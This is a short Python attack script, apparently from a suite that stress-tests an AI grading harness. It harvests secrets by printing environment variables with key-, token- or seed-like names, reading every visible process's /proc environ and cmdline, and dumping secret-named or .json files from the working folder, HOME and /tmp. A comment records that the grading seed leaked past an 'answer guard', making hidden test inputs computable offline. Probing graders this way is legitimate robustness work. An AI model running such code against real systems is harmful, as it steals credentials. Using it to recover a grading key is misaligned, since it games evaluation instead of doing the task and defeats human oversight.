"""Attack: look for the grading key where a process finds its configuration: its environment,
its parent's and every visible process's (/proc/*/environ, cmdline), the working folder, HOME
and /tmp, the kernel's connection file; print anything that looks like a key or seed."""
# base: residuals wrong_grad_missing_cos
# class: the environment
# Under the answer guard the key CH4_GRADING_SEED sat in the kernel's environment and printed
# into the feedback: every hidden input was then computable offline.
import os
import re

_LOOKS_SECRET = re.compile(r"SEED|SECRET|KEY|TOKEN|PASS|GRAD", re.IGNORECASE)
print("ENV", sorted(os.environ))
for _name, _value in sorted(os.environ.items()):
    if _LOOKS_SECRET.search(_name):
        print("ENV VALUE", _name, "=", _value)
for _pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for _part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{_pid}/{_part}", "rb") as _handle:
                _text = _handle.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        print(f"PROC {_pid}/{_part}:", _text[:300])
for _top in (os.getcwd(), os.path.expanduser("~"), "/tmp"):
    for _dir, _subdirs, _files in os.walk(_top):
        for _name in _files:
            if _LOOKS_SECRET.search(_name) or _name.endswith(".json"):
                try:
                    with open(os.path.join(_dir, _name), encoding="utf-8", errors="replace") as _handle:
                        print("FILE", os.path.join(_dir, _name), _handle.read(300).replace("\n", " "))
                except OSError:
                    pass
